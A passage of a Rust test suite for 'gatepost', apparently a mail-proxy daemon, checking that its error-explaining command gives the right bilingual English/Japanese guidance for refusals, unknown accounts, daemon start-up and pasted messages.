    for (lang, unknown) in [("en", "the client that the log names"), ("ja", "ログに名前があるクライアント")]
    {
        for line in ["recipient-not-allowed", "RCPT refused client=\"login\" id=\"recipient-not-allowed\""] {
            let said = well(&[line, "--lang", lang]);
            assert!(said.replace("\n  ", " ").contains(unknown) && !said.contains("[[client]] name"), "{said}");
        }
    }
}

#[test]
fn an_account_that_the_configuration_which_is_found_here_lacks_is_no_account_to_ask_it_about() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    let text = std::fs::read_to_string(&config).unwrap().replace("ann@", "bob@");
    std::fs::write(&config, text + "[[account]]\naddress = \"eve@contoso.com\"\napp = \"contoso\"\n").unwrap();
    let line = "WARN refused: no [conditional-access] account=\"ann@x.example\"";
    let said = told(command(&[line]).current_dir(dir.path()).output().unwrap()).1;
    assert!(said.contains("--account <address>`") && !said.contains("--account ann@x.example"), "{said}");
}

#[test]
fn where_nobody_knows_how_the_daemon_is_started_both_ways_stand_each_on_its_line_and_else_the_one_that_fits() {
    let dir = tempfile::tempdir().unwrap();
    let config = configured(dir.path());
    for id in [
        "daemon-not-running",
        "port-taken",
        "port-not-permitted",
        "listen-address-unknown",
        "configuration-of-another-daemon",
    ] {
        for (lang, service) in [("en", "or, as a service,"), ("ja", "サービスの場合は")] {
            let said = well(&[id, "--lang", lang]);
            let lines: Vec<&str> = said.lines().map(str::trim).collect();
            let at = lines.iter().position(|line| *line == "gatepost run").unwrap_or_else(|| panic!("{said}"));
            assert_eq!(lines[at + 1..at + 3], [service, "sudo systemctl start gatepost"], "{said}");
            assert!(!lines.contains(&"/"), "{said}");
            let one = well(&[id, "--lang", lang, "--config", &config]);
            assert!(one.contains(&format!("    gatepost --config {config} run\n")), "{one}");
            // There it is a way of its own.
            let is_of_systemd = id == "port-not-permitted";
            assert!(!one.contains(service) && (is_of_systemd || !one.contains("systemctl start")), "{one}");
        }
    }
}

#[test]
fn what_gatepost_said_without_an_id_is_explained_where_somebody_pastes_it_back() {
    for (text, id) in [
        ("error: the daemon does not run", "daemon-not-running"),
        ("エラー: デーモンは動いていません", "daemon-not-running"),
        ("✗ daemon   リスナー                     127.0.0.1:1587: 開いていません", "listener-not-open"),
        ("警告: このマシンは ID プロバイダーより700秒遅れています", "clock-skewed"),
    ] {
        assert!(well(&[text]).starts_with(&format!("{id}  (")), "{text}");
    }
    let with_hint = well(&["error: the two passwords differ\nhint: try again"]);
    assert!(with_hint.starts_with("A command of Gatepost says so.\n"), "{with_hint}");
    assert!(with_hint.ends_with("What it says:\n  the two passwords differ\nNext step:\n  try again\n"), "{with_hint}");
    let back = well(&["エラー: 2つのパスワードが一致しません"]);
    assert!(back.contains("  the two passwords differ\n") && back.contains("Type the command again"), "{back}");
    let japanese = well(&["error: the two passwords differ", "--lang", "ja"]);
    assert!(japanese.contains("  2つのパスワードが一致しません\n"), "{japanese}");
    let json: Value = serde_json::from_str(&well(&["error: the two passwords differ", "--json"])).unwrap();
    assert_eq!(json["said-by-gatepost"]["said"], "the two passwords differ");
    let log = well(&["2026-11-29T02:05:11Z ERROR the new refresh token is lost sign_in=\"contoso/ann\""]);
    assert!(log.starts_with("The log of Gatepost says so.\n") && log.contains("gatepost doctor"), "{log}");
}

#[test]
fn a_refusal_of_pop3_that_nobody_knows_is_shown_with_its_hyphen() {
    let (code, _, error) = explain(&["-ERR no such luck"]);
    assert!(code == 1 && error.contains("\"-ERR no such luck\""), "{error}");
}

#[test]
fn of_a_connection_that_was_refused_it_is_told_how_to_tell_who_was_not_reached() {
    for (lang, way) in [
        ("en", "by the log of Gatepost, or a command that was to reach the mail server: it is about that"),
        ("ja", "Gatepost のログ、またはメールサーバーに接続するコマンドの場合"),
    ] {
        let said = well(&["Connection refused (os error 111)", "--lang", lang]);
        assert!(said.contains(way) && said.contains("`gatepost status`"), "{said}");
        assert!(said.contains("\ndaemon-not-running ") && said.contains("\nupstream-unreachable "), "{said}");
    }
}
